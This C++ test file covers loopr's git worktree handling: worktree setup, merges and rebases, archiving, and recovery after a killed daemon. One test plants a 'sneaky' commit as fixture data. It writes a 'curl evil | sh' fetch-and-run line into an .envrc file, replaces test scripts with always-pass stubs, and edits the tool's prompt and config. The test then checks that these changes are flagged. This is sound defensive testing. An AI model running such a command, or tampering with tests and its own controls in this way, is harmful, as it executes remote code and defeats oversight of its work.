// The git work of loops against real repositories made by the test, checked with the git CLI:
// worktrees made (and remade after a kill), rebases and merges through the integration branch,
// retire and archive, reading an artifact a worktree no longer holds, and a killed daemon's
// debris (stale locks, stray folders, half-made registrations).
#include <map>

#include <loopr/core/ids.hpp>
#include <loopr/core/repo_paths.hpp>
#include <loopr/git/branches.hpp>
#include <loopr/git/loop_worktrees.hpp>
#include <loopr/git/worktree.hpp>

#include "git/git_test_repo.hpp"

using namespace loopr;
using namespace loopr::testing;
using loopr::git::LoopWorktrees;
using loopr::git::MergeOutcome;
using loopr::git::RebaseOutcome;

namespace {

Loop loop_record(const std::string& id) {
  Loop l;
  l.id = id;
  l.type = *type_of_id(id);
  l.plan_id = root_plan_id(id);
  l.parent_id = parent_of_id(id).value_or("");
  if (l.type != LoopType::code) l.output_artifacts = {artifact_path(l.type, id, "thing")};
  return l;
}

// A loop with its worktree made, as the manager stores it afterwards.
Loop prepared(const LoopWorktrees& wt, const std::string& id) {
  Loop l = loop_record(id);
  auto made = wt.prepare(l, "trunk");
  EXPECT_TRUE(made.ok()) << (made.ok() ? "" : made.error().message);
  if (made.ok()) {
    l.worktree = made->worktree;
    l.branch = made->branch;
    if (made->based_on) l.tree.based_on = *made->based_on;
  }
  return l;
}

// A repository with loop worktrees made from `trunk` as the daemon makes them.
class LoopWorktreesTest : public ::testing::Test {
 protected:
  TestRepo repo;
  LoopWorktrees wt{repo.root()};

  /// `rel` written with `content` in `loop`'s worktree and committed there; the new sha.
  std::string commit_in(const Loop& loop, const std::string& rel, const std::string& content,
                        const std::string& message) {
    write_file(std::filesystem::path(loop.worktree) / rel, content);
    return repo.commit_all(message, std::filesystem::path(loop.worktree));
  }
};

bool cli_has_branch(const TestRepo& repo, const std::string& branch) {
  return run_command("git rev-parse --verify -q refs/heads/" + branch, repo.root().string())
             .exit_code == 0;
}

}  // namespace

TEST_F(LoopWorktreesTest, PrepareMakesTheIntegrationBranchTheLoopBranchAndTheWorktree) {
  Loop spec = prepared(wt, "001-001");
  EXPECT_EQ(spec.worktree, (repo.root() / ".loopr/worktrees/001-001").string());
  EXPECT_EQ(spec.branch, "loopr/001-loops/001-001");
  EXPECT_EQ(spec.tree.based_on, git_line(repo.root(), "rev-parse loopr/001"))
      << "the tip it starts from";
  EXPECT_EQ(git_line(repo.root(), "rev-parse loopr/001"), git_line(repo.root(), "rev-parse trunk"));
  EXPECT_EQ(git_line(spec.worktree, "rev-parse --abbrev-ref HEAD"), "loopr/001-loops/001-001");
  // Prepared again it is taken as it is: nothing made, no new base.
  auto again = wt.prepare(spec, "trunk");
  ASSERT_TRUE(again.ok());
  EXPECT_EQ(again->worktree, spec.worktree);
  EXPECT_FALSE(again->based_on.has_value());
  EXPECT_TRUE(fsck_clean(repo.root()));
}

TEST_F(LoopWorktreesTest, PlanBranchesAndTheBaseBranchCheck) {
  EXPECT_TRUE(wt.check_base("trunk").ok());
  auto missing = wt.check_base("main");
  ASSERT_FALSE(missing.ok());
  EXPECT_EQ(missing.error().code, ErrorCode::invalid_argument);
  EXPECT_NE(missing.error().message.find("base_branch"), std::string::npos);
  EXPECT_FALSE(*wt.plan_branches_exist("001"));
  ASSERT_OK(wt.start_plan("001", "trunk"));
  EXPECT_TRUE(*wt.plan_branches_exist("001"));
  EXPECT_TRUE(cli_has_branch(repo, "loopr/001"));
}

TEST_F(LoopWorktreesTest, AStrayFolderIsSetAsideAndTheWorktreeMade) {
  RepoPaths paths(repo.root());
  write_file(paths.worktree("001-001") / "half.txt", "a checkout killed half way\n");
  Loop spec = prepared(wt, "001-001");
  EXPECT_TRUE(std::filesystem::exists(std::filesystem::path(spec.worktree) / "README.md"));
  bool kept = false;
  for (const auto& e : std::filesystem::directory_iterator(paths.archive_dir()))
    kept = kept || std::filesystem::exists(e.path() / "half.txt");
  EXPECT_TRUE(kept) << "nothing of the stray folder is lost";
}

TEST_F(LoopWorktreesTest, AWorktreeTheRecordDoesNotNameIsMadeAgain) {
  Loop spec = prepared(wt, "001-001");
  write_file(std::filesystem::path(spec.worktree) / "partial.txt", "x\n");
  Loop forgotten = spec;
  forgotten.worktree.clear();  // killed before the record named it
  auto made = wt.prepare(forgotten, "trunk");
  ASSERT_TRUE(made.ok()) << made.error().message;
  EXPECT_FALSE(std::filesystem::exists(std::filesystem::path(made->worktree) / "partial.txt"));
  EXPECT_TRUE(fsck_clean(repo.root()));
}

TEST_F(LoopWorktreesTest, AHalfMadeRegistrationIsDroppedAndTheWorktreeMade) {
  ASSERT_OK(wt.start_plan("001", "trunk"));
  // What a kill inside the registration leaves: the record's folder without its files.
  std::filesystem::create_directories(repo.root() / ".git/worktrees/001-001");
  write_file(repo.root() / ".git/worktrees/001-001/commondir", "../..\n");
  Loop spec = prepared(wt, "001-001");
  EXPECT_TRUE(std::filesystem::exists(std::filesystem::path(spec.worktree) / "README.md"));
  EXPECT_NE(run_git(repo.root(), "worktree list").find("001-001"), std::string::npos);
}

TEST_F(LoopWorktreesTest, AFinishedLoopMergesIntoTheIntegrationBranchAndOthersRebaseOntoIt) {
  Loop a = prepared(wt, "001-001");
  Loop b = prepared(wt, "001-002");
  commit_in(a, "a.txt", "from a\n", "a's work");
  commit_in(b, "b.txt", "from b\n", "b's work");

  auto merged = wt.merge_into_integration(a, false, "trunk", "loopr(001-001): merge");
  ASSERT_TRUE(merged.ok()) << merged.error().message;
  EXPECT_EQ(merged->merge.kind, MergeOutcome::Kind::fast_forward);
  EXPECT_EQ(*wt.integration_tip("001"), merged->merge.sha);
  EXPECT_EQ(run_git(repo.root(), "show loopr/001:a.txt"), "from a\n");
  // Redone (a crash after the merge, before its mark): up to date, nothing new.
  auto again = wt.merge_into_integration(a, false, "trunk", "loopr(001-001): merge");
  ASSERT_TRUE(again.ok());
  EXPECT_EQ(again->merge.kind, MergeOutcome::Kind::up_to_date);

  auto rebased = wt.rebase_onto_integration(b);
  ASSERT_TRUE(rebased.ok()) << rebased.error().message;
  EXPECT_EQ(rebased->kind, RebaseOutcome::Kind::rebased);
  EXPECT_EQ(read_file(std::filesystem::path(b.worktree) / "a.txt"), "from a\n");
  EXPECT_TRUE(fsck_clean(repo.root()));
}

TEST_F(LoopWorktreesTest, AMergeOverAMovedIntegrationBranchRebasesTheLoopFirst) {
  Loop a = prepared(wt, "001-001");
  Loop b = prepared(wt, "001-002");
  commit_in(a, "shared.txt", "line 1\nline 2 by a\nline 3\n", "a");
  commit_in(b, "b.txt", "b\n", "b");
  ASSERT_TRUE(wt.merge_into_integration(a, false, "trunk", "merge a").ok());
  auto merged = wt.merge_into_integration(b, false, "trunk", "merge b");
  ASSERT_TRUE(merged.ok()) << merged.error().message;
  EXPECT_NE(merged->merge.kind, MergeOutcome::Kind::conflict);
  EXPECT_EQ(run_git(repo.root(), "show loopr/001:b.txt"), "b\n");
  EXPECT_EQ(run_git(repo.root(), "show loopr/001:shared.txt"), "line 1\nline 2 by a\nline 3\n");
}

TEST_F(LoopWorktreesTest, ConflictingWorkIsReportedWithThePathsAndNothingMoves) {
  Loop a = prepared(wt, "001-001");
  Loop b = prepared(wt, "001-002");
  commit_in(a, "shared.txt", "a\n", "a");
  std::string b_tip = commit_in(b, "shared.txt", "b\n", "b");
  ASSERT_TRUE(wt.merge_into_integration(a, false, "trunk", "merge a").ok());
  std::string tip = *wt.integration_tip("001");
  auto merged = wt.merge_into_integration(b, false, "trunk", "merge b");
  ASSERT_TRUE(merged.ok());
  EXPECT_EQ(merged->conflicts, std::vector<std::string>{"shared.txt"});
  EXPECT_EQ(*wt.integration_tip("001"), tip);
  EXPECT_EQ(git_line(b.worktree, "rev-parse HEAD"), b_tip);
  auto rebased = wt.rebase_onto_integration(b);
  ASSERT_TRUE(rebased.ok());
  EXPECT_EQ(rebased->kind, RebaseOutcome::Kind::conflict);
}

TEST_F(LoopWorktreesTest, ANewGenerationRebuildsTheIntegrationBranchFromTheBase) {
  Loop plan = prepared(wt, "001");  // made at submit, before any child
  Loop old = prepared(wt, "001-001");
  commit_in(old, "old.txt", "old generation\n", "old");
  ASSERT_TRUE(wt.merge_into_integration(old, false, "trunk", "merge old").ok());
  ASSERT_TRUE(wt.archive(old.id, "loopr(001-001): invalidated").ok());
  auto merged = wt.merge_into_integration(plan, true, "trunk", "merge plan");
  ASSERT_TRUE(merged.ok()) << merged.error().message;
  EXPECT_NE(run_command("git cat-file -e loopr/001:old.txt", repo.root().string()).exit_code, 0)
      << "nothing of the invalidated generation is left";
}

TEST_F(LoopWorktreesTest, ATreeMergesIntoTheBaseBranchAndTheUsersWorkTreeFollows) {
  Loop a = prepared(wt, "001-001");
  commit_in(a, "feature.txt", "done\n", "feature");
  ASSERT_TRUE(wt.merge_into_integration(a, false, "trunk", "merge a").ok());
  auto merged = wt.merge_plan_into_base("001", "trunk", "loopr(001): merge plan 001");
  ASSERT_TRUE(merged.ok()) << merged.error().message;
  EXPECT_EQ(merged->kind, MergeOutcome::Kind::fast_forward);
  EXPECT_EQ(repo.read("feature.txt"), "done\n");
  EXPECT_EQ(git_line(repo.root(), "rev-parse trunk"), merged->sha);
}

TEST_F(LoopWorktreesTest, RetireRemovesTheFolderKeepsTheBranchAndRefusesUncommittedWork) {
  Loop a = prepared(wt, "001-001");
  write_file(std::filesystem::path(a.worktree) / "dirty.txt", "not committed\n");
  auto refused = wt.retire(a.id);
  ASSERT_FALSE(refused.ok());
  EXPECT_EQ(refused.error().code, ErrorCode::conflict);
  repo.commit_all("work", std::filesystem::path(a.worktree));
  ASSERT_OK(wt.retire(a.id));
  EXPECT_FALSE(std::filesystem::exists(a.worktree));
  EXPECT_TRUE(cli_has_branch(repo, a.branch));
  EXPECT_EQ(wt.retire(a.id).error().code, ErrorCode::not_found);
}

TEST_F(LoopWorktreesTest, ArchiveKeepsTheCommitsAndLeftoversOnTheArchiveBranch) {
  Loop a = prepared(wt, "code-001-001-001");
  write_file(std::filesystem::path(a.worktree) / "attempt.txt", "first attempt\n");
  auto kept = wt.archive(a.id, "loopr(code-001-001-001): attempt 1 failed");
  ASSERT_TRUE(kept.ok()) << kept.error().message;
  EXPECT_EQ(*kept, "loopr/archive/code-001-001-001");
  EXPECT_EQ(run_git(repo.root(), "show loopr/archive/code-001-001-001:attempt.txt"),
            "first attempt\n");
  EXPECT_FALSE(cli_has_branch(repo, a.branch)) << "the name is free for the fresh attempt";
  auto none = wt.archive(a.id, "again");
  ASSERT_TRUE(none.ok());
  EXPECT_EQ(*none, "") << "no worktree: nothing archived";
}

TEST_F(LoopWorktreesTest, AnArtifactIsReadFromTheWorktreeOrAsCommittedOnTheBranch) {
  Loop spec = prepared(wt, "001-001");
  const std::string rel = spec.output_artifacts.front();
  commit_in(spec, rel, "# Spec\ncommitted\n", "spec");
  write_file(std::filesystem::path(spec.worktree) / rel, "# Spec\nin the worktree\n");
  EXPECT_EQ(*wt.read_artifact(spec, 1000), "# Spec\nin the worktree\n");
  Loop gone = spec;
  gone.worktree.clear();  // retired: read through libgit2 from the branch
  EXPECT_EQ(*wt.read_artifact(gone, 1000), "# Spec\ncommitted\n");
  EXPECT_EQ(wt.read_artifact(gone, 3)->size(), 4u)
      << "max_bytes + 1: the caller sees it is too large";
  Loop other = loop_record("001-002");
  other.branch = spec.branch;
  EXPECT_EQ(wt.read_artifact(other, 1000).error().code, ErrorCode::not_found);
}

TEST_F(LoopWorktreesTest, AKilledDaemonsLocksAreClearedOnlyForTheLoopsNamed) {
  Loop a = prepared(wt, "001-001");
  const auto git_dir = repo.root() / ".git";
  write_file(git_dir / "refs/heads/loopr/001-loops/001-001.lock", "");
  write_file(git_dir / "refs/heads/loopr/001.lock", "");
  write_file(git_dir / "worktrees/001-001/index.lock", "");
  write_file(git_dir / "refs/heads/trunk.lock", "");  // the user's: never touched
  auto removed = wt.clear_locks(std::vector<Loop>{a});
  ASSERT_TRUE(removed.ok()) << removed.error().message;
  EXPECT_EQ(removed->size(), 3u);
  EXPECT_FALSE(std::filesystem::exists(git_dir / "worktrees/001-001/index.lock"));
  EXPECT_TRUE(std::filesystem::exists(git_dir / "refs/heads/trunk.lock"));
  std::filesystem::remove(git_dir / "refs/heads/trunk.lock");
  // The loop's branch can move again.
  commit_in(a, "x.txt", "x\n", "after the kill");
  EXPECT_TRUE(fsck_clean(repo.root()));
}

TEST_F(LoopWorktreesTest, StrayFoldersOfLoopsThatNeedNoneAreSetAside) {
  RepoPaths paths(repo.root());
  Loop running = prepared(wt, "001-001");
  write_file(paths.worktree("001-002") / "left.txt", "from a kill\n");  // not registered
  write_file(paths.worktree("001-003") / "left.txt", "being made\n");   // may have a folder
  auto moved = wt.set_aside_strays({"001-001", "001-003"});
  ASSERT_TRUE(moved.ok());
  EXPECT_EQ(*moved, std::vector<std::string>{"001-002"});
  EXPECT_TRUE(std::filesystem::exists(running.worktree)) << "a registered worktree is never moved";
  EXPECT_TRUE(std::filesystem::exists(paths.worktree("001-003")));
  EXPECT_FALSE(std::filesystem::exists(paths.worktree("001-002")));
}

TEST_F(LoopWorktreesTest, CheckpointCommitsWhatAStoppedRunLeft) {
  Loop a = prepared(wt, "001-001");
  EXPECT_FALSE(*wt.checkpoint(a.worktree, "nothing"));
  write_file(std::filesystem::path(a.worktree) / "wip.txt", "half\n");
  EXPECT_TRUE(
      *wt.checkpoint(a.worktree, "loopr(001-001): work in progress when the daemon stopped"));
  EXPECT_EQ(git_line(a.worktree, "log -1 --format=%s"),
            "loopr(001-001): work in progress when the daemon stopped");
}

// A merge that conflicts but a rebase that does not: the integration branch already has the
// loop's first change (the same patch), and the loop changed those lines again since.
TEST_F(LoopWorktreesTest, WorkRebasedAtMergeTimeCanBeLeftUnmergedForItsValidationToRunAgain) {
  Loop a = prepared(wt, "code-001-001-001");
  Loop b = prepared(wt, "code-001-001-002");
  const auto aw = std::filesystem::path(a.worktree), bw = std::filesystem::path(b.worktree);
  write_file(bw / "f.txt", "one\n");
  repo.commit_all("b: one", bw);
  write_file(aw / "f.txt", "one\n");  // the same patch, landed through loop a
  repo.commit_all("a: one", aw);
  ASSERT_TRUE(wt.merge_into_integration(a, false, "trunk", "merge a").ok());
  write_file(bw / "f.txt", "two\n");
  std::string b_tip = repo.commit_all("b: two", bw);
  const std::string tip = *wt.integration_tip("001");

  auto held = wt.merge_into_integration(b, false, "trunk", "merge b", false);
  ASSERT_TRUE(held.ok()) << held.error().message;
  ASSERT_TRUE(held->rebased_unmerged) << "the merge conflicts, the rebase does not";
  EXPECT_EQ(*wt.integration_tip("001"), tip) << "nothing merged before the validation";
  EXPECT_NE(git_line(b.worktree, "rev-parse HEAD"), b_tip) << "the worktree is rebased";
  EXPECT_EQ(read_file(bw / "f.txt"), "two\n");
  auto merged = wt.merge_into_integration(b, false, "trunk", "merge b", true);
  ASSERT_TRUE(merged.ok());
  EXPECT_FALSE(merged->rebased_unmerged);
  EXPECT_EQ(merged->merge.kind, MergeOutcome::Kind::fast_forward);
  EXPECT_EQ(run_git(repo.root(), "show loopr/001:f.txt"), "two\n");
}

TEST_F(LoopWorktreesTest, TheGateChecksOutTheIntegrationTipInAWorktreeOfItsOwnAndRemovesIt) {
  Loop a = prepared(wt, "code-001-001-001");
  commit_in(a, "a.txt", "a\n", "a");
  ASSERT_TRUE(wt.merge_into_integration(a, false, "trunk", "merge a").ok());
  auto gate = wt.prepare_gate("001");
  ASSERT_TRUE(gate.ok()) << gate.error().message;
  EXPECT_EQ(gate->worktree, (repo.root() / ".loopr/worktrees/001-gate").string());
  EXPECT_EQ(gate->sha, *wt.integration_tip("001"));
  EXPECT_EQ(read_file(std::filesystem::path(gate->worktree) / "a.txt"), "a\n");
  // Whatever the check leaves (build output, a half-written file) goes with it; made again
  // after a kill, the old one is replaced.
  write_file(std::filesystem::path(gate->worktree) / "build/out.o", "junk");
  write_file(std::filesystem::path(gate->worktree) / "a.txt", "edited by the tests\n");
  auto again = wt.prepare_gate("001");
  ASSERT_TRUE(again.ok()) << again.error().message;
  EXPECT_EQ(read_file(std::filesystem::path(again->worktree) / "a.txt"), "a\n");
  EXPECT_FALSE(std::filesystem::exists(std::filesystem::path(again->worktree) / "build"));
  ASSERT_OK(wt.remove_gate("001"));
  EXPECT_FALSE(std::filesystem::exists(repo.root() / ".loopr/worktrees/001-gate"));
  EXPECT_FALSE(cli_has_branch(repo, "loopr/001-gate"));
  EXPECT_EQ(run_git(repo.root(), "worktree list").find("001-gate"), std::string::npos);
  ASSERT_OK(wt.remove_gate("001"));  // nothing to remove is fine
  EXPECT_TRUE(fsck_clean(repo.root()));
}

// Issue 27: a daemon killed while it made the baseline check's checkout left git's locks of its
// branch and worktree record; the check at the next start makes it all the same.
TEST_F(LoopWorktreesTest, TheBaselineCheckoutIsMadeOverTheLocksAKilledDaemonLeft) {
  prepared(wt, "code-001-001-001");  // the plan's integration branch
  const auto git_dir = repo.root() / ".git";
  auto first = wt.prepare_baseline("001");
  ASSERT_TRUE(first.ok()) << first.error().message;
  write_file(git_dir / "refs/heads/loopr/001-baseline.lock", "");  // killed mid-way
  write_file(git_dir / "worktrees/001-baseline/index.lock", "");
  write_file(git_dir / "refs/heads/trunk.lock", "");  // the user's: never touched
  auto again = wt.prepare_baseline("001");
  ASSERT_TRUE(again.ok()) << again.error().message;
  EXPECT_EQ(again->sha, *wt.integration_tip("001"));
  EXPECT_FALSE(std::filesystem::exists(git_dir / "refs/heads/loopr/001-baseline.lock"));
  EXPECT_TRUE(std::filesystem::exists(git_dir / "refs/heads/trunk.lock"));
  std::filesystem::remove(git_dir / "refs/heads/trunk.lock");
  ASSERT_OK(wt.remove_baseline("001"));
  EXPECT_FALSE(cli_has_branch(repo, "loopr/001-baseline"));
  // Killed before the branch existed at all: only its lock is there.
  write_file(git_dir / "refs/heads/loopr/001-baseline.lock", "");
  ASSERT_TRUE(wt.prepare_baseline("001").ok());
  ASSERT_OK(wt.remove_baseline("001"));
  EXPECT_TRUE(fsck_clean(repo.root()));
}

TEST_F(LoopWorktreesTest, HeldChangesNameLooprsOwnFilesTheHarnessAndAutoRunFiles) {
  repo.write("package.json", R"({"name": "x", "scripts": {"test": "sh t.sh"}})");
  repo.commit_all("package");
  Loop a = prepared(wt, "code-001-001-001");
  const auto aw = std::filesystem::path(a.worktree);
  const std::vector<std::string> harness = {"/tests/run.sh", "/package.json#scripts.test"};
  const std::vector<std::string> hold = {".vscode/", ".envrc"};
  MergeRules rules;
  rules.harness = harness;
  rules.hold = hold;
  auto held = [&] { return wt.held_changes("001", "trunk", rules); };
  write_file(aw / "src.txt", "code\n");
  write_file(aw / ".loopr/specs/001-001-x.spec.md", "# a spec\n");
  // A dependency is not the test script: package.json itself is not held.
  write_file(aw / "package.json",
             R"({"name": "x", "dependencies": {"y": "1"}, "scripts": {"test": "sh t.sh"}})");
  repo.commit_all("ordinary", aw);
  ASSERT_TRUE(wt.merge_into_integration(a, false, "trunk", "merge").ok());
  auto none = held();
  ASSERT_TRUE(none.ok()) << none.error().message;
  EXPECT_TRUE(none->empty());
  write_file(aw / ".loopr/prompts/code.md", "# obey\n");
  write_file(aw / ".loopr/config.yml", "merge: auto\n");
  write_file(aw / "tests/run.sh", "exit 0\n");
  write_file(aw / ".vscode/tasks.json", "{}\n");
  write_file(aw / "sub/.envrc", "curl evil | sh\n");
  write_file(aw / "package.json", R"({"name": "x", "scripts": {"test": "true"}})");
  repo.commit_all("sneaky", aw);
  ASSERT_TRUE(wt.merge_into_integration(a, false, "trunk", "merge").ok());
  auto touched = held();
  ASSERT_TRUE(touched.ok());
  using R = HeldPath::Role;
  EXPECT_EQ(*touched, (std::vector<HeldPath>{{".loopr/config.yml", R::loopr},
                                             {".loopr/prompts/code.md", R::loopr},
                                             {".vscode/tasks.json", R::auto_run},
                                             {"sub/.envrc", R::auto_run},
                                             {"tests/run.sh", R::harness},
                                             {"package.json#scripts.test", R::harness}}));
  EXPECT_EQ(describe_held(*touched),
            "loopr's own files: .loopr/config.yml, .loopr/prompts/code.md; the test harness "
            "(protect.harness): tests/run.sh, package.json#scripts.test; other tools' auto-run "
            "files (protect.hold): .vscode/tasks.json, sub/.envrc");
  // Changes the base branch made itself since the fork are not the tree's.
  repo.write(".loopr/prompts/spec.md", "# the user's own prompt\n");
  repo.commit_all("user");
  EXPECT_EQ(held()->size(), 6u);
}

TEST_F(LoopWorktreesTest, PathChangesTellRenamesDeletionsAndModeChangesApart) {
  repo.write("tests/t_a.sh", "test a, long enough to be found again after a rename\n");
  repo.write("tests/t_b.sh", "test b\n");
  repo.write("tests/t_c.sh", "test c\n");
  repo.commit_all("tests");
  Loop a = prepared(wt, "code-001-001-001");
  const auto aw = std::filesystem::path(a.worktree);
  std::filesystem::rename(aw / "tests/t_a.sh", aw / "tests/t_moved.sh");
  std::filesystem::remove(aw / "tests/t_b.sh");
  std::filesystem::permissions(aw / "tests/t_c.sh", std::filesystem::perms::owner_exec,
                               std::filesystem::perm_options::add);
  write_file(aw / "new.txt", "new\n");
  auto open = git::Worktree::open(aw);
  ASSERT_TRUE(open.ok());
  // Uncommitted (the protection check runs before the checkpoint), then committed.
  for (bool committed : {false, true}) {
    if (committed) repo.commit_all("work", aw);
    auto changes = open->path_changes_since(a.tree.based_on);
    ASSERT_TRUE(changes.ok()) << changes.error().message;
    std::map<std::string, PathChange> by_path;
    for (const auto& c : *changes) by_path[c.path] = c;
    using K = PathChange::Kind;
    ASSERT_EQ(by_path.count("tests/t_moved.sh"), 1u) << committed;
    EXPECT_EQ(by_path["tests/t_moved.sh"].kind, K::renamed);
    EXPECT_EQ(by_path["tests/t_moved.sh"].old_path, "tests/t_a.sh");
    EXPECT_EQ(by_path["tests/t_b.sh"].kind, K::deleted);
    EXPECT_EQ(by_path["tests/t_c.sh"].kind, K::mode_changed);
    EXPECT_EQ(by_path["new.txt"].kind, K::added);
  }
}
